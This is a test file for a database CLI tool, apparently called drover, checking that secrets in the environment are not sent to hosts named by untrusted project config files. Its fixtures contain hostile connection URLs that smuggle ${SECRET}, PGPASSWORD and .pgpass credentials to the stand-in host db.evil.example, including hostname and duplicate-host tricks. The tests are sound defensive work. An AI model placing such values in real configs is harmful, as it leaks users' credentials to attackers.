import { expect, test } from 'vitest'
import { createFakeProjectFiles } from '../support/fake-project-files.ts'
import { createFakeStore } from '../support/fake-store.ts'
import { type RunCliOptions, runCli } from '../support/run-cli.ts'

const config = '/project/drover.config.json'
const yaml = '/dbos-config.yaml'
const evil = 'db.evil.example'
const own = { USER: 'ada', HOME: '/home/ada' }

/** What became of `list` where these files lie: its exit code, and every host that it connected to. */
async function list(
  files: Record<string, string>,
  env: Record<string, string> = {},
  more: RunCliOptions = {},
) {
  const connected: string[] = []
  const projectFiles = more.projectFiles ?? createFakeProjectFiles({ files })
  const run = await runCli('list', {
    files,
    env: { ...own, ...env },
    openStore: async ({ url, listenUrl }) => {
      connected.push(url, ...(listenUrl === undefined ? [] : [listenUrl]))
      return createFakeStore([])
    },
    ...more,
    projectFiles,
  })
  return { ...run, connected }
}

const json = (settings: object) => ({ [config]: JSON.stringify(settings) })

test.each<[string, Record<string, string>, Record<string, string>, string]>([
  ['a variable in the password', json({ databaseUrl: `postgres://u:\${SECRET}@${evil}/x` }), {}, '${SECRET}'],
  ['one in an option', json({ databaseUrl: `postgres://u:p@${evil}/x?options=\${SECRET}` }), {}, '${SECRET}'],
  ['one in the host', json({ databaseUrl: 'postgres://u:p@${SECRET}.evil.example/x' }), {}, '${SECRET}'],
  [
    'a host behind a variable',
    json({ databaseUrl: `\${SECRET}@${evil}/x` }),
    { SECRET: 'postgres://u:p' },
    '${SECRET}',
  ],
  [
    'a host in the options',
    json({ databaseUrl: `postgres://u:\${SECRET}@localhost/x?host=${evil}` }),
    {},
    '${SECRET}',
  ],
  [
    'the last of two hosts',
    json({ databaseUrl: `postgres://u:\${SECRET}@a/x?host=localhost&host=${evil}` }),
    {},
    '${SECRET}',
  ],
  ['an empty option', json({ databaseUrl: `postgres://u:\${SECRET}@${evil}/x?host=` }), {}, '${SECRET}'],
  [
    'a default',
    json({ databaseUrl: `\${UNSET:-postgres://u:p@${evil}/x}`, application: '${SECRET}' }),
    {},
    '${SECRET}',
  ],
  [
    'a name that is asked for',
    json({ databaseUrl: `postgres://u:p@${evil}/x`, application: '${SECRET}' }),
    {},
    '${SECRET}',
  ],
  ['a schema', json({ databaseUrl: `postgres://u:p@${evil}/x`, schema: '${SECRET}' }), {}, '${SECRET}'],
  [
    'the name in another file',
    { ...json({ databaseUrl: `postgres://u:p@${evil}/x` }), [yaml]: 'name: ${SECRET}' },
    {},
    '${SECRET}',
  ],
  ['the other file', { [yaml]: `system_database_url: postgres://u:\${SECRET}@${evil}/x` }, {}, '${SECRET}'],
  [
    'notifications',
    json({ listenUrl: `postgres://u@${evil}/x` }),
    { DROVER_DB_URL: 'postgres://localhost/x', PGPASSWORD: 's' },
    'PGPASSWORD',
  ],
  ['PGPASSWORD', json({ databaseUrl: `postgres://u@${evil}/x` }), { PGPASSWORD: 's' }, 'PGPASSWORD'],
  ['PGOPTIONS', json({ databaseUrl: `postgres://u:p@${evil}/x` }), { PGOPTIONS: '-c a=s' }, 'PGOPTIONS'],
  ['PGSERVICE', json({ databaseUrl: `postgres://u:p@${evil}/x` }), { PGSERVICE: 'shop' }, 'the service shop'],
  ['PGUSER', json({ databaseUrl: `postgres://${evil}/x` }), { PGUSER: 's' }, 'PGUSER'],
  ['the name of the user', json({ databaseUrl: `postgres://${evil}/x` }), {}, 'the name of your user'],
  [
    'a name that looks like this machine',
    json({ databaseUrl: `postgres://u:\${SECRET}@127.0.0.1.evil.example/x` }),
    {},
    '${SECRET}',
  ],
  [
    'a password for any host',
    { ...json({ databaseUrl: `postgres://u@${evil}/x` }), '/home/ada/.pgpass': '*:*:*:*:s' },
    {},
    'a password of /home/ada/.pgpass',
  ],
])('nothing of the environment goes to a host that a file chose: %s', async (_, files, env, carried) => {
  const given = { SECRET: 's3cret', ...env }
  const { code, stderr, connected } = await list(files, given)
  expect({ code, connected }).toEqual({ code: 2, connected: [] })
  expect(stderr).toContain(carried)
  expect(stderr).toContain('hint: drover config trust')
  expect(stderr).not.toContain('s3cret')
  expect((await list(files, { ...given, DROVER_TRUST_CONFIG: '1' })).connected.length).toBeGreaterThan(0)
})

test.each<[string, Record<string, string>, Record<string, string>]>([
  [
    'a whole variable',
    json({ databaseUrl: '${DBOS_SYSTEM_DATABASE_URL}' }),
    { DBOS_SYSTEM_DATABASE_URL: 'postgres://u:s@db.internal/x' },
  ],
  [
    'a whole variable of another name',
    json({ databaseUrl: '${SHOP_URL}' }),
    { SHOP_URL: 'postgres://u:s@db.internal/x', PGPASSWORD: 's' },
  ],
  [
    'a whole variable and an option',
    json({ databaseUrl: '${SHOP_URL}?sslmode=require' }),
    { SHOP_URL: 'postgres://u:s@db.internal/x' },
  ],
  [
    'a host of the environment',
    json({ databaseUrl: 'postgres://u:${PW}@${DB_HOST}:5432/x' }),
    { DB_HOST: 'db.internal', PW: 's' },
  ],
  [
    'a password to this machine',
    json({ databaseUrl: 'postgres://u:${PW}@localhost/x' }),
    { PW: 's', PGPASSWORD: 's' },
  ],
  [
    'PGPASSWORD to this machine',
    { [yaml]: 'system_database_url: postgres://u@127.0.0.1:5432/x' },
    { PGPASSWORD: 's' },
  ],
  [
    'PGPASSWORD to a socket',
    json({ databaseUrl: 'postgres://u@/x?host=/var/run/postgresql' }),
    { PGPASSWORD: 's' },
  ],
  [
    'a host that PGHOST names',
    json({ databaseUrl: 'postgres://u@db.internal/x' }),
    { PGHOST: 'db.internal', PGPASSWORD: 's' },
  ],
  [
    'a host that another variable names',
    json({ databaseUrl: 'postgres://u@db.internal/x' }),
    { DROVER_LISTEN_URL: 'postgres://db.internal/x', PGPASSWORD: 's' },
  ],
  ['nothing but the file', json({ databaseUrl: 'postgres://u:p@db.internal/x' }), {}],
  [
    'a password for this very host',
    { ...json({ databaseUrl: 'postgres://u@db.internal/x' }), '/home/ada/.pgpass': 'db.internal:*:*:*:s' },
    {},
  ],
])('what is ordinary goes on to work: %s', async (_, files, env) => {
  const { code, connected } = await list(files, env)
  expect({ code, isConnected: connected.length > 0 }).toEqual({ code: 0, isConnected: true })
})

test('a host that a file chose is said the first time, and not again', async () => {
  const files = json({ databaseUrl: 'postgres://u:p@db.internal/x' })
  const projectFiles = createFakeProjectFiles({ files })
  const first = await list(files, {}, { projectFiles })
  expect(first.stderr).toContain(
    `Connecting to db.internal:5432 for the first time, because ${config} names it.`,
  )
  expect((await list(files, {}, { projectFiles })).stderr).not.toContain('first time')
})

test.each(['another user', 'everybody'] as const)(
  'a file that %s may have written is trusted by name or not at all',
  async (author) => {
    const files = json({ schema: 'flows' })
    const projectFiles = createFakeProjectFiles({ files, authors: { [config]: author } })
    for (const line of ['list', 'config', 'doctor', 'inbox', 'db status']) {
      const run = await runCli(line, { files, projectFiles, store: createFakeStore([]) })
      expect({ line, code: run.code }).toEqual({ line, code: 2 })
      expect(run.stderr).toContain('hint: drover config trust')
    }
    const refused = await runCli('config trust', { files, projectFiles })
    expect(refused.code).toBe(2)
    expect(refused.stderr).toContain('DROVER_TRUST_CONFIG=1')
    const trusted = await runCli('config trust --yes', { files, projectFiles })
    expect(trusted.stderr).toContain(`Trusted until they change: ${config}.`)
    expect((await runCli('list', { files, projectFiles, store: createFakeStore([]) })).code).toBe(0)

    const changed = { [config]: '{"schema": "other"}' }
    const later = {
      ...projectFiles,
      read: createFakeProjectFiles({ files: changed, authors: { [config]: author } }).read,
    }
    expect(
      (await runCli('list', { files: changed, projectFiles: later, store: createFakeStore([]) })).code,
    ).toBe(2)
  },
)

test('trust is asked for on a terminal', async () => {
  const files = json({ databaseUrl: `postgres://u:\${SECRET}@${evil}/x` })
  const projectFiles = createFakeProjectFiles({ files })
  const env = { SECRET: 's3cret' }
  const { stderr, code } = await runCli('config trust', {
    files,
    projectFiles,
    env,
    isTerminal: true,
    answers: [true],
  })
  expect({ code, trusted: [...projectFiles.trusted.keys()] }).toEqual({ code: 0, trusted: [config] })
  expect(stderr).toContain('sends ${SECRET} to db.evil.example:5432')
})

test('a number of an answer profile is sent to the last digit', async () => {
  const files = { [config]: '{"workflows":{"w":{"topic":"t","approve":12345678901234567890}}}' }
  const store = createFakeStore([{ workflowId: 'w-1', name: 'w', did: [{ recv: 't' }] }])
  await runCli('approve w-1', { files, store })
  expect((await runCli('messages w-1 -o json', { store })).stdout).toContain('12345678901234567890')
})
